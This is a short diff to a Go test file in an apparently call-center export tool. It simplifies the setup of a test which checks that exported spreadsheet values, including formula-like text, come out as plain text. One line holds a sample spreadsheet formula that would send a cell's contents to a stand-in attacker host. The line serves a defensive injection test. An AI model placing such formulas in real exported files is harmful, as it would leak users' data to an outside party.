@@ -23,7 +23,6 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"dialdesk/client"
-	"dialdesk/handlers"
 	"dialdesk/internal/testapp"
 	"dialdesk/store"
 )
@@ -162,10 +161,7 @@ func TestExportStreamAllPages(t *testing.T) {
 // SQLite, page after page; values come out as they were pushed: leading
 // zeros, Chinese, formula-like text as text.
 func TestExportStreamSurfaceAValues(t *testing.T) {
-	app := testapp.New(t, testapp.Options{Configure: func(cfg *handlers.Config) {
-		base := strings.TrimSuffix(cfg.RecordingsURL, "/recordings")
-		cfg.Client = client.New(client.WithICall(base+"/api/icall/5/task/", "demo-appid", "demo-signature"))
-	}})
+	app := testapp.New(t, testapp.Options{SurfaceAOnly: true})
 	app.RememberSandboxTasks(t)
 	task := app.Sandbox.TaskIDs()[0]
 	formula := `=HYPERLINK("http://evil.example/?x="&A1,"open")`
